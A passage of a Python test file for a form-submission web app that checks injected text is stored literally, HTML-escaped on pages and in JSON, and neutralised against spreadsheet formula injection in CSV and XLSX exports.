    visits = {}
    for number, text in enumerate(INJECTIONS):
        instance_id = f"uuid:inject-{number}"
        xml = visit_xml(instance_id, person=text, photo=None, members=((text, "40"),))
        assert field.phone.submit(xml, []).status_code == 201
        page = f"/submissions/{instance_id}"
        assert post_form(field.client, page, f"{page}/comment", {"body": text}).status_code == 302
        visits[instance_id] = text
    return visits


def as_xml_reads_it(text: str) -> str:
    """XML turns every line end into a line feed (XML 1.0 §2.11): what a phone's '\r' arrives as."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("number", range(len(INJECTIONS)))
def test_injection_is_stored_literally_and_escaped_on_pages_and_in_json(field, injected, number):
    instance_id = f"uuid:inject-{number}"
    text = as_xml_reads_it(injected[instance_id])
    db.session.expire_all()
    submission = db.session.scalars(select(Submission).where(Submission.instance_id == instance_id)).one()
    version = submission.versions[-1]
    assert version.data["person"] == text and version.data["member"][0]["member_name"] == text
    assert version.instance_name == text.strip() and submission.events[0].body == injected[instance_id].strip()
    assert db.session.scalar(select(func.count()).select_from(Blob)) > 0  # nothing dropped
    pages = (field.client.get(f"/submissions/{instance_id}").get_data(as_text=True),
             field.client.get("/submissions?form=visit").get_data(as_text=True))
    for html in pages:
        assert str(escape(text.strip())) in html
        if any(c in text for c in "<>\"'&"):
            assert text.strip() not in html
    detail = field.client.get(f"/api/v1/submissions/{instance_id}", headers=api_headers(field)).json
    assert detail["data"]["person"] == text and detail["instance_name"] == text.strip()
    assert detail["data"]["member"][0]["member_name"] == text


def csv_table(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    limit = csv.field_size_limit(10_000_000)  # the corpus' long-text visits are in the export too
    try:
        return list(csv.DictReader(io.TextIOWrapper(archive.open(name), encoding="utf-8-sig", newline="")))
    finally:
        csv.field_size_limit(limit)


def test_injection_is_inert_in_csv_and_xlsx_exports(field, injected):
    response = field.client.get("/submissions/export?format=csv&form=visit")
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        names = archive.namelist()
        root = csv_table(archive, next(n for n in names if "-member" not in n))
        members = csv_table(archive, next(n for n in names if "-member" in n))
    response.close()
    by_key = {row["KEY"]: row for row in root}
    member_names = {row["PARENT_KEY"]: row["member_name"] for row in members}
    for instance_id, text in injected.items():
        text = as_xml_reads_it(text)
        assert by_key[instance_id]["person"] == neutralise(text)
        assert member_names[instance_id] == neutralise(text)
        if text[:1] in "=+-@\t\r\n":
            assert by_key[instance_id]["person"][:1] == "'"
    response = field.client.get("/submissions/export?format=xlsx&form=visit")
    workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    response.close()
    sheet = workbook.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[1])  # the form's words, then the field names
    person, key = header.index("person"), header.index("KEY")
    cells = {row[key]: row[person] for row in rows[2:]}
    for instance_id, text in injected.items():
        assert cells[instance_id] == neutralise(as_xml_reads_it(text))
        assert not str(cells[instance_id]).startswith(("=", "+", "-", "@", "\t"))
    workbook.close()
